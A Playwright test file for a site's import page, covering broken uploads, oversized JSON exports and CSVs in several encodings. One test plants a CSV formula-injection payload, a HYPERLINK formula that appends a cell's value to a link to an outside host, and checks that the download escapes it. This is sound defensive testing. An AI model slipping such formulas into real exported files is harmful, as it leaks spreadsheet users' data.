import type { Page } from '@playwright/test'
import { BROKEN_FILES } from '../broken-files.ts'
import { expect, test } from '../browser.ts'
import { csv, FOR_THE_JOB } from '../import-files.ts'
import { openPage } from '../open-page.ts'
import { becomeMember } from '../people.ts'

/** Answers that say the server is at fault. */
function faultsOf(page: Page): string[] {
  const faults: string[] = []
  page.on('response', (answer) => {
    if (answer.status() >= 500) faults.push(`${answer.status()} ${answer.url()}`)
  })
  return faults
}

async function importsOf(page: Page): Promise<unknown[]> {
  const answer = await page.request.get('/api/me/imports')
  const { imports }: { imports: unknown[] } = await answer.json()
  return imports
}

test('of each broken file it is said what to do, and nothing is stored', async ({ page }) => {
  const faults = faultsOf(page)
  await becomeMember(page)
  await openPage(page, '/import')
  await page.getByLabel('Choose files').setInputFiles(BROKEN_FILES.map(({ file }) => file))

  await expect(page.getByRole('heading', { name: 'Nothing to import was found' })).toBeVisible()
  const problems = page.getByRole('list', { name: 'Problems' }).getByRole('listitem')
  for (const { file, says } of BROKEN_FILES)
    await expect(
      problems.filter({ hasText: new RegExp(`^${file.name}`) }).filter({ hasText: says }),
    ).toHaveCount(1)
  expect(await importsOf(page)).toEqual([])
  expect(faults).toEqual([])
})

test('of a file of 200 MB it is said that it is too large, or where it ends', async ({ page }) => {
  await becomeMember(page)
  await openPage(page, '/import')
  // Made in the page out of one part, so that it takes no memory.
  const drop = (name: string, parts: number) =>
    page.getByRole('region', { name: 'Drop your export here' }).evaluate(
      (zone, { name, parts }) => {
        const part = new Blob([`{"id":1,"type":"movie","watched_at":null,"movie":{}},`.repeat(19_800)])
        const dataTransfer = new DataTransfer()
        dataTransfer.items.add(new File(['[', ...Array.from({ length: parts }, () => part)], name))
        zone.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }))
      },
      { name, parts },
    )

  await drop('watched-history-1.json', 210)
  const problems = page.getByRole('list', { name: 'Problems' })
  await expect(problems).toContainText(
    'This file is too large to be read at once. Split it into several files.',
  )
  await page.getByRole('button', { name: 'Choose other files' }).click()
  await drop('watched-history-1.json', 185)
  await expect(page.getByText(/^Reading/).first()).toBeVisible()
  await expect(problems).toContainText('watched-history-1.json', FOR_THE_JOB)
  await expect(page.getByRole('heading', { name: /things we could not read$/ })).toBeVisible()
  expect(await importsOf(page)).toEqual([])
})

test('tables in other encodings, and formulas, are read as what they are', async ({ page }) => {
  await becomeMember(page)
  await openPage(page, '/import')
  const rows = (name: string, day: string) => `title,year,tmdbId,imdbId,watchedAt\n${name},2001,194,,${day}\n`
  const formula = '=HYPERLINK("https://example.org/?"&A1)'
  const excel = rows('Amélie', '2020-01-02').replaceAll(',', ';').replaceAll('\n', '\r\n')
  const files = [
    csv('latin.csv', Buffer.from(rows('Amélie', '2020-01-01'), 'latin1')),
    csv('excel.csv', `\uFEFFsep=;\r\n${excel}`),
    csv('wide.csv', Buffer.from(`\uFEFF${rows('Amélie', '2020-01-03')}`, 'utf16le')),
    csv(
      'formula.csv',
      `title,year,tmdbId,imdbId,watchedAt\n"${formula.replaceAll('"', '""')}",1999,,,2020-01-04\n`,
    ),
  ]
  await page.getByLabel('Choose files').setInputFiles(files)
  await expect(page.getByRole('button', { name: /^Import/ })).toHaveText('Import 3 plays', FOR_THE_JOB)

  const left = page.getByRole('region', { name: '1 entry not found' })
  await expect(left.getByRole('listitem')).toContainText(`${formula} (1999), formula.csv, line 2`)
  const download = page.waitForEvent('download')
  await left.getByRole('link', { name: 'Download' }).click()
  const chunks: Buffer[] = []
  for await (const chunk of await (await download).createReadStream()) chunks.push(chunk)
  expect(Buffer.concat(chunks).toString()).toContain(`"'=HYPERLINK(`)
})
